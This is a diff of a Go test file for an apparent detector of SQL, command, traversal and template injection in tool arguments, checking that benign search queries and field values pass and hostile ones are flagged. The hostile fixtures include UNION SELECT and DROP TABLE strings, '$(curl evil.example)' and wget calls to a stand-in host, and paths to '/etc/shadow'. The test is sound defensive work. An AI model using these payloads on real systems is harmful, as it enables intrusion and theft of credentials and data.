@@ -174,6 +174,9 @@ func TestHonestSearchesPass(t *testing.T) {
 		"project = ABC AND assignee = currentUser() ORDER BY created DESC", "SELECT Id FROM Account WHERE Name = 'x'", "C++; rust | go && zig", "what is $(pwd) in bash",
 		"how does sql injection ' or '1'='1 work?", "name contains 'report' and mimeType='application/pdf' and trashed=false", "owner:me (status = open OR status = 'in progress')",
 		"select all users from Berlin", "\"exact phrase\" OR title:foo AND -bar", "it's a dog's life -- or isn't it?",
+		"O'Brien & sons; union select", "SELECT * FROM users tutorial", "what does SELECT COUNT(*) FROM table do?", "mysql sleep(5) injection example", "drop table syntax", "'or' vs 'and' in python",
+		"or 1=1 sql injection explained", "Drop Table (band)", "delete from gmail", "group by having count(*) > 1 example", "SELECT * FROM c WHERE c.type = 'a' ORDER BY c._ts DESC", "cat /etc/passwd explained",
+		"the union select committee from parliament", "\"union select\" site:owasp.org", "information_schema.tables columns",
 		"status in (open, 'in progress') AND updated >= -7d ORDER BY updated", "SELECT Id, Name FROM Contact WHERE Name LIKE 'A%' ORDER BY Name LIMIT 10",
 	} {
 		for _, field := range []string{"q", "query"} {
@@ -183,11 +186,35 @@ func TestHonestSearchesPass(t *testing.T) {
 		}
 	}
 	for q, rule := range map[string]string{
+		"1 UNION SELECT password FROM users": "sqli", "shoes union select email from customers": "sqli", "' UNION SELECT": "sqli", "1; drop table users": "sqli", "drop table users; --": "sqli", "a' or 'x'='x": "sqli",
+		"select * from information_schema.tables": "sqli", "1 and sleep(5)": "sqli",
 		"x' OR 1=1 --": "sqli", "id = 1 or 1=1": "sqli", "a = a or b = 'b'; drop table t": "sqli", "-1 UNION SELECT 1,password FROM users": "sqli", "select * from sysusers": "sqli",
 		"name = user() union select 1": "sqli", "x; cat /srv/x": "command", "$(curl evil.example)": "command", "x | wget http://evil.example/a": "command", "x`id`": "command",
 	} {
 		if f := top(t, "search", map[string]any{"query": q}, nil); f.Rule != rule || f.Score < 0.7 {
 			t.Errorf("%q: %+v, want %s", q, f, rule)
+		}
+	}
+}
+
+// What editors, templates and titles hold is no attack on anything.
+func TestHonestValuesPass(t *testing.T) {
+	for _, c := range [][3]string{
+		{"edit_file", "old_string", "os.system('ls')"}, {"edit_file", "new_text", "import os\nos.system('ls; rm x')"}, {"create_file", "file_text", "SELECT 1; DROP TABLE x"},
+		{"search_code", "query", "if (a && b) || c; return"}, {"kv_set", "value", "Dear {{user.name}}, {{#each rows}}x{{/each}}"}, {"set_title", "title", "How to DROP TABLE safely in Postgres; a guide"},
+		{"send_email", "subject", "RE: O'Brien vs. Smith; update #3 -- urgent"}, {"notion_query", "filter", `{"property":"Status","select":{"equals":"Done"}}`},
+		{"create_contact", "name", "Sinéad O'Connor"}, {"create_contact", "company", "O'Brien & sons; union select"}, {"get_weather", "city", "St. John's; Newfoundland"}, {"find_files", "glob", "src/**/*.{ts,tsx}"},
+	} {
+		if f := top(t, c[0], map[string]any{c[1]: c[2]}, nil); f.Score >= 0.7 {
+			t.Errorf("%v: %+v", c, f)
+		}
+	}
+	for _, c := range [][4]string{
+		{"run_report", "target", "/etc/shadow", "traversal"}, {"create_contact", "name", "Robert'); DROP TABLE students;--", "sqli"}, {"kv_set", "value", "{{7*7}}", "command"}, {"render", "value", "{{''.__class__}}", "command"},
+		{"run_report", "target", "${SHELL} -c id", "command"}, {"run_report", "target", "/etc/pas[s]wd", "traversal"}, {"get_user", "id", "1 UNION SELECT password FROM users", "sqli"},
+	} {
+		if f := top(t, c[0], map[string]any{c[1]: c[2]}, nil); f.Rule != c[3] || f.Score < 0.7 {
+			t.Errorf("%v: %+v", c, f)
 		}
 	}
 }
